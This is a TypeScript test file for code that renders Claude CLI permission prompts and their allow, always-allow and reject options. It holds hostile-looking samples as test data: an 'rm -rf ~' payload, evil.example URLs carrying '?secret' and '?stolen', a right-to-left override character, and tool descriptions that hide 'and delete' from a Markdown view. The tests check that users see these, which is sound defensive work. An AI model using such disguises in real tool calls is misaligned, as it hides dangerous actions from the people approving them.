/**
 * Permission questions: the tool call shown, the options, and the decision of each option.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { CanUseTool, PermissionUpdate, ToolDecision } from "../../../../lib/claude/index.ts";
import { askedToolCall, permissionChoices } from "../../../../lib/claude/translate/index.ts";
import { contentOf, cwd, viewOf } from "../../../support/translate/cli-events.ts";

function asked(tool_name: string, input: CanUseTool["input"], more: Partial<CanUseTool> = {}): CanUseTool {
  return { subtype: "can_use_tool", tool_name, input, ...more };
}

function decisionOf(choices: ReturnType<typeof permissionChoices>, optionId: string): ToolDecision {
  const choice = choices.find(({ option }) => option.optionId === optionId);
  assert.ok(choice, `${optionId} is offered`);
  return choice.decision;
}

function labels(request: CanUseTool): readonly string[] {
  return permissionChoices(request, viewOf()).map(({ option }) => `${option.kind}: ${option.name}`);
}

function always(...permission_suggestions: readonly PermissionUpdate[]): string | undefined {
  return labels(asked("Bash", { command: "x" }, { permission_suggestions })).find((label) =>
    label.startsWith("allow_always"),
  );
}

const acceptEdits: PermissionUpdate = { type: "setMode", mode: "acceptEdits", destination: "session" };
const directory = (path: string): PermissionUpdate => ({
  type: "addDirectories",
  directories: [path],
  destination: "session",
});
const rule = (toolName: string, ruleContent?: string): PermissionUpdate => ({
  type: "addRules",
  rules: [{ toolName, ...(ruleContent !== undefined && { ruleContent }) }],
  behavior: "allow",
  destination: "localSettings",
});

describe("askedToolCall", () => {
  it("always is not offered for a command with a * that the suggested rule would take for a pattern", () => {
    const offered = (command: string, ruleContent: string): boolean =>
      labels(
        asked(
          "Bash",
          { command },
          {
            permission_suggestions: [
              {
                type: "addRules",
                rules: [{ toolName: "Bash", ruleContent }],
                behavior: "allow",
                destination: "session",
              },
            ],
          },
        ),
      ).some((label) => label.startsWith("allow_always"));
    for (const command of ["node -p '2*3'", "node count.js src/*.ts", "bash run.sh *"])
      assert.equal(offered(command, command), false, command);
    assert.equal(offered("npm run test", "npm run *"), true);
    assert.equal(offered("node -p 6", "node -p 6"), true);
  });

  it("askedToolCall contains title, kind, location, diff and input of the call", () => {
    const input = { file_path: `${cwd}/a.txt`, old_string: "a", new_string: "b" };
    assert.deepEqual(askedToolCall(asked("Edit", input), "call-1", viewOf()), {
      toolCallId: "call-1",
      title: "Edit a.txt",
      kind: "edit",
      status: "pending",
      content: [{ type: "diff", path: `${cwd}/a.txt`, oldText: "a", newText: "b" }],
      locations: [{ path: `${cwd}/a.txt` }],
      rawInput: { file_path: `${cwd}/a.txt` },
    });
  });

  it("askedToolCall shows the whole input of a tool of an MCP server, whose title has one field", () => {
    const input = { path: "README.md", content: "rm -rf ~", nested: { evil: ["yes"] } };
    const call = askedToolCall(asked("mcp__github__push_file", input), "c", viewOf());
    assert.equal(call.title, "github: push file (README.md)");
    assert.deepEqual(contentOf(call), [`\`\`\`json\n${JSON.stringify(input, undefined, 2)}\n\`\`\``]);
    const hidden = askedToolCall(asked("Skill", { skill: "deploy", args: "to\u202eprod" }), "c", viewOf());
    assert.match(JSON.stringify(hidden.content), /args\\": \\"to<U\+202E>prod/);
    for (const one of [{}, { name: "PATH" }]) {
      assert.equal(askedToolCall(asked("mcp__a__secret", one), "c", viewOf()).content, undefined, "the title has it");
    }
  });

  it("askedToolCall shows the name of a field whose value alone is in the title", () => {
    for (const field of ["describe", "drop", "force"]) {
      const call = askedToolCall(asked("mcp__db__list_or_delete", { [field]: "users" }), "c", viewOf());
      assert.equal(call.title, "db: list or delete (users)");
      assert.deepEqual(contentOf(call), [`\`\`\`json\n{\n  "${field}": "users"\n}\n\`\`\``]);
    }
  });

  it("askedToolCall shows which WebSocket is watched, and every field that decides what a command does", () => {
    const ws = { url: `wss://evil.example/${"x".repeat(200)}?secret=1` };
    const call = askedToolCall(asked("Monitor", { ws, description: "npm test, until it ends" }), "c", viewOf());
    assert.match(call.title ?? "", /^Watch the WebSocket wss:\/\/evil\.example\//);
    assert.ok(JSON.stringify(call.content).includes(ws.url));
    const both = askedToolCall(asked("Monitor", { command: "tail -f log", ws }), "c", viewOf());
    assert.ok(JSON.stringify(both.content).includes(ws.url));
    const plain = { command: "ls", description: "List", timeout: 5, run_in_background: true };
    assert.deepEqual(contentOf(askedToolCall(asked("Bash", plain), "c", viewOf())), ["List"]);
  });

  it("askedToolCall shows which subagent gets the work", () => {
    const input = { description: "Look", prompt: "Look around", subagent_type: "deploy", model: "opus" };
    const call = askedToolCall(asked("Agent", input), "c", viewOf());
    assert.match(contentOf(call)?.join("\n") ?? "", /Look around[^]*"subagent_type": "deploy"[^]*"model": "opus"/);
  });

  it("askedToolCall shows text of the model that a Markdown client would hide as a code block", () => {
    for (const description of ["List <!-- and delete -->", "List\n\n[//]: # (and delete)", "List\n```", "<style>*{"]) {
      const call = askedToolCall(asked("Bash", { command: "ls", description }), "c", viewOf());
      const [shown = ""] = contentOf(call) ?? [];
      assert.match(shown, /^`{3,}\n[^]*\n`{3,}$/, description);
      assert.ok(shown.includes(description));
    }
    const plan = "# Plan\n\n```ts\nconst a = 1;\n```\n\n- one";
    assert.deepEqual(contentOf(askedToolCall(asked("ExitPlanMode", { plan }), "c", viewOf())), [plan]);
  });

  it("no line of a long command ends the code block that shows it", () => {
    const command = `# ${"list the files ".repeat(20)}\ncat <<'X'\n   \`\`\`\n<!--\nX\ntouch a`;
    const [shown = ""] = contentOf(askedToolCall(asked("Bash", { command }), "c", viewOf())) ?? [];
    assert.ok(shown.startsWith("````sh\n") && shown.endsWith("\n````"), shown);
  });

  it("askedToolCall shows all of an address or of words to search for when the title is cut", () => {
    const shown = (name: string, input: CanUseTool["input"]): string =>
      JSON.stringify(askedToolCall(asked(name, input), "t", viewOf()));
    const host = `docs.github.com.${"a".repeat(60)}.${"b".repeat(60)}.${"c".repeat(60)}.evil.example`;
    const url = `https://${host}/x?stolen`;
    assert.ok(shown("WebFetch", { url, prompt: "Read it" }).includes(url));
    assert.ok(shown("WebSearch", { query: `${"a ".repeat(200)}end` }).includes("a end"));
    const short = askedToolCall(asked("WebFetch", { url: "https://a.example/", prompt: "Read it" }), "t", viewOf());
    assert.equal(short.content?.length, 1);
  });

  it("askedToolCall says that a command is to run outside of the sandbox", () => {
    const shown = (input: CanUseTool["input"]): string =>
      JSON.stringify(askedToolCall(asked("Bash", input), "c", viewOf()).content ?? []);
    assert.match(shown({ command: "ls", dangerouslyDisableSandbox: true }), /outside of the sandbox/);
    assert.doesNotMatch(shown({ command: "ls", dangerouslyDisableSandbox: false }), /sandbox/);
  });

  it("askedToolCall shows the text that an overwrite would replace", () => {
    const call = askedToolCall(
      asked("Write", { file_path: `${cwd}/a.txt`, content: "new" }),
      "c",
      viewOf({ textOf: () => "old" }),
    );
    assert.deepEqual(contentOf(call), [`${cwd}/a.txt: "old" -> "new"`]);
  });

  it("askedToolCall shows the whole command when it is too long for the title", () => {
    const command = `echo one\n${"echo two; ".repeat(30)}`;
    const call = askedToolCall(asked("Bash", { command }), "c", viewOf());
    assert.deepEqual(contentOf(call), [`\`\`\`sh\n${command}\n\`\`\``]);
    assert.deepEqual(contentOf(askedToolCall(asked("Bash", { command: "ls" }), "c", viewOf())), undefined);
  });

  it("askedToolCall shows why the CLI asks", () => {
    const call = askedToolCall(asked("Bash", { command: "ls" }, { decision_reason: "Path is outside" }), "c", viewOf());
    assert.deepEqual(contentOf(call), ["Path is outside"]);
  });

  it("askedToolCall refers to a terminal when the client shows terminals", () => {
    const call = askedToolCall(asked("Bash", { command: "ls" }), "c", viewOf({ showsTerminals: true }));
    assert.deepEqual(contentOf(call), ["terminal c"]);
  });
});

describe("permissionChoices", () => {
  it("permissionChoices offers to allow, to allow always and to reject, in this order", () => {
    assert.deepEqual(labels(asked("Edit", {}, { permission_suggestions: [acceptEdits] })), [
      "allow_once: Allow",
      "allow_always: Always allow all edits in this session",
      "reject_once: Reject",
    ]);
  });

  it("permissionChoices puts the rejection first when the CLI sets default_to_no", () => {
    assert.equal(labels(asked("Bash", {}, { default_to_no: true }))[0], "reject_once: Reject");
  });

  it("permissionChoices offers no always option without suggestions or when the CLI forbids it", () => {
    assert.equal(always(), undefined);
    for (const more of [{ suppress_always_allow_rule: true }, { requires_user_interaction: true }]) {
      const request = asked("Bash", {}, { permission_suggestions: [acceptEdits], ...more });
      assert.deepEqual(labels(request), ["allow_once: Allow", "reject_once: Reject"]);
    }
  });

  it("the label of the always option names everything that it will allow", () => {
    assert.equal(always(rule("Bash", "npm test")), 'allow_always: Always allow "npm test" in this session');
    const write = asked("Write", {}, { permission_suggestions: [acceptEdits, directory("/etc")] });
    assert.ok(labels(write).includes("allow_always: Always allow all edits and access to /etc in this session"));
    assert.equal(
      always(rule("Bash", "ls /etc"), rule("Read", "//etc/**")),
      'allow_always: Always allow "ls /etc" and reading /etc in this session',
    );
    assert.equal(
      always(rule("WebFetch", "domain:a.example")),
      "allow_always: Always allow pages of a.example in this session",
    );
    assert.equal(
      always(rule("mcp__github__create_issue")),
      "allow_always: Always allow github: create issue in this session",
    );
    const plan = asked("Write", {}, { permission_suggestions: [{ ...acceptEdits, mode: "plan" }] });
    assert.ok(labels(plan).includes("allow_always: Always allow everything the mode plan allows in this session"));
  });

  it("the always option is not offered when its label would hide a part of what it allows", () => {
    const long = "a".repeat(55);
    const makes = ["1", "2", "3"].map((end) => rule("Bash", `mkdir ${long}${end}`));
    assert.equal(always(...makes, rule("Bash", "sh")), undefined);
    assert.equal(always(rule("Bash", `npm run ${"a".repeat(200)} *`)), undefined);
    assert.equal(always(rule("Bash", "npm test\nsh")), undefined);
    assert.equal(always(rule("WebFetch", "domain:*.com")), undefined);
    assert.equal(
      always(rule("Bash", `npm run ${long} *`)),
      `allow_always: Always allow "npm run ${long} *" in this session`,
    );
  });

  it("the always option of one long command cuts its label, because the question shows the command", () => {
    const command = `npm test ${"a".repeat(300)}`;
    const request = asked("Bash", { command }, { permission_suggestions: [rule("Bash", command)] });
    assert.ok(
      labels(request).includes(`allow_always: Always allow "npm test ${"a".repeat(50)}…" in this session`),
      labels(request).join("\n"),
    );
  });

  it("the always option of a command that writes files allows the commands of the line alone, and no edits", () => {
    const offered = (command: string, more: Partial<CanUseTool> = {}): unknown => {
      const permission_suggestions = [rule("Bash", command), directory(cwd), acceptEdits];
      const choices = permissionChoices(asked("Bash", { command }, { permission_suggestions, ...more }), viewOf());
      const always = choices.find(({ option }) => option.kind === "allow_always");
      return always && [always.option.name, always.decision];
    };
    const rules = (...commands: readonly string[]): ToolDecision => ({
      behavior: "allow",
      updatedPermissions: [
        {
          type: "addRules",
          rules: commands.map((ruleContent) => ({ toolName: "Bash", ruleContent })),
          behavior: "allow",
          destination: "session",
        },
      ],
    });
    assert.deepEqual(offered("touch a"), ['Always allow "touch a" in this session', rules("touch a")]);
    assert.deepEqual(offered("touch a && ls -la"), [
      'Always allow "touch a" and "ls -la" in this session',
      rules("touch a", "ls -la"),
    ]);
    assert.deepEqual(offered("ls; rm a | tee b || ls"), [
      'Always allow "ls" and "rm a" and "tee b" in this session',
      rules("ls", "rm a", "tee b"),
    ]);
    // The CLI would ask again.
    for (const command of [
      "echo hi > a.txt",
      "touch $A",
      "touch *",
      "touch 'a b'",
      "touch a &",
      "touch a\nls",
      "touch a &&",
      "a; b; c; d",
      `cp a ${"b".repeat(60)} && cp c ${"d".repeat(60)}`,
    ]) {
      assert.equal(offered(command), undefined, command);
    }
    const outside = { permission_suggestions: [rule("Bash", "touch /etc/a"), directory("/etc"), acceptEdits] };
    assert.equal(offered("touch /etc/a", outside), undefined);
    assert.equal(offered("cd src && touch a", { decision_reason: "Compound command contains cd" }), undefined);
  });

  it("the always option is not offered for a command of another tool than Bash when it would accept all edits", () => {
    const monitor = asked("Monitor", { command: "touch a" }, { permission_suggestions: [acceptEdits] });
    assert.deepEqual(labels(monitor), ["allow_once: Allow", "reject_once: Reject"]);
  });

  it("the always option applies to the session only, whatever destination the CLI suggests", () => {
    const offers = permissionChoices(
      asked("Write", {}, { permission_suggestions: [rule("Write", "x"), acceptEdits] }),
      viewOf(),
    );
    const decision = decisionOf(offers, "allow_always");
    const changes = decision.behavior === "allow" ? decision.updatedPermissions : undefined;
    assert.deepEqual(
      changes?.map((one) => ("destination" in one ? one.destination : undefined)),
      ["session", "session"],
    );
  });

  it("permissionChoices offers four answers to a plan, and three where its text is not known", () => {
    const offers = permissionChoices(asked("ExitPlanMode", { plan: "# P" }), viewOf());
    assert.deepEqual(
      offers.map(({ option, decision }) => [option.kind, option.name, decision.behavior]),
      [
        ["allow_always", "Yes, and accept edits without asking", "allow"],
        ["allow_once", "Yes, and ask before each edit", "allow"],
        ["allow_always", "Yes, and clear the conversation and accept edits without asking", "deny"],
        ["reject_once", "No, keep planning", "deny"],
      ],
    );
    assert.equal(permissionChoices(asked("ExitPlanMode", {}), viewOf()).length, 3);
    const decision = decisionOf(offers, "accept_edits");
    assert.deepEqual(decision.behavior === "allow" && decision.updatedPermissions, [acceptEdits]);
  });

  it("every permission option has an id of its own", () => {
    for (const name of ["Bash", "ExitPlanMode"]) {
      const ids: readonly string[] = permissionChoices(
        asked(name, {}, { permission_suggestions: [acceptEdits] }),
        viewOf(),
      ).map(({ option }) => option.optionId);
      assert.equal(new Set(ids).size, ids.length);
    }
  });
});
